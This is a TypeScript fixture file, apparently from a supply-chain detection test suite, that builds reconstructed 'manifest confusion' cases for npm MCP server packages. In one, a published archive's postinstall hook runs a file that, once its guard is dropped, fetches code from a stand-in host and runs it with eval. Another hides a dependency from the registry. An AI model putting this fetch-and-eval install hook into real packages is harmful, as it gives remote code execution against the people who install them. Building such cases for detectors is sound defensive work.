import type { ReconstructedCase } from '../case.ts';
import { notesServer } from '../bases/notes-server.ts';
import { appending, source } from '../source.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'manifest-mismatch',
  campaign: 'manifest confusion',
  technique: 'package.json in the archive has a hook and dependencies that the registry does not show',
  follows: 'manifest confusion, disclosed 2023-06-27',
};

const SCRIPTS = { build: 'tsc', test: 'node --test' };

export const manifestMismatch: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'hidden-hook',
    note: 'the registry shows the scripts of the release before',
    name: '@cove-desk/mcp',
    brand: 'cove-desk',
    base: notesServer,
    steps: [
      ...quiet(['1.0.0', '1.0.1', '1.1.0']),
      {
        version: '1.1.1',
        daysAgo: 7,
        manifest: { scripts: { ...SCRIPTS, postinstall: 'node dist/after.js' } },
        registrySide: { scripts: SCRIPTS },
        files: {
          'dist/after.js': source`
            const RECONSTRUCTED = true;
            if (!RECONSTRUCTED) fetch('https://hello.saltfog.invalid/').then((response) => response.text()).then(eval);
          `,
        },
      },
    ],
    signals: ['rug-pull/manifest-mismatch'],
  }),
  positive(ABOUT, {
    variant: 'hidden-dependency',
    note: 'the registry shows none of the dependency that the archive asks for',
    name: '@cove-charts/mcp',
    brand: 'cove-charts',
    base: notesServer,
    steps: [
      ...quiet(['1.0.0', '1.0.1', '1.1.0']),
      {
        version: '1.1.1',
        daysAgo: 7,
        manifest: {
          dependencies: { '@modelcontextprotocol/sdk': '^1.12.0', zod: '^3.25.0', 'plain-brine-js': '^4.2.1' },
        },
        registrySide: { dependencies: { '@modelcontextprotocol/sdk': '^1.12.0', zod: '^3.25.0' } },
      },
    ],
    signals: ['rug-pull/manifest-mismatch'],
  }),
  twin(ABOUT, {
    variant: 'normalised',
    note: 'what npm itself writes into its document: `bin` as an object, repositories as URLs, an install script for binding.gyp',
    name: '@cove-notes/mcp',
    brand: 'cove-notes',
    base: (identity) => {
      const draft = notesServer(identity);
      return {
        ...draft,
        manifest: {
          ...draft.manifest,
          bin: './dist/index.js',
          repository: 'github:cove-notes/mcp',
          main: './dist/index.js',
        },
        files: {
          ...draft.files,
          'binding.gyp': '{ "targets": [{ "target_name": "notes", "sources": ["notes.cc"] }] }\n',
          'notes.cc': 'int notes() { return 0; }\n',
        },
      };
    },
    steps: [
      { version: '1.0.0', daysAgo: 70, registrySide: normalised() },
      { version: '1.0.1', daysAgo: 50, registrySide: normalised() },
      {
        version: '1.1.0',
        daysAgo: 7,
        registrySide: normalised(),
        files: { 'dist/store.js': appending('\nexports.folder = folder;\n') },
      },
    ],
  }),
];

/** See `normalize-package-data`, which npm publishes through. */
function normalised(): { readonly [field: string]: string | boolean | { readonly [field: string]: string } } {
  return {
    bin: { mcp: 'dist/index.js' },
    repository: { type: 'git', url: 'git+https://github.com/cove-notes/mcp.git' },
    scripts: { ...SCRIPTS, install: 'node-gyp rebuild' },
    gypfile: true,
    gitHead: '0123456789abcdef0123456789abcdef01234567',
  };
}
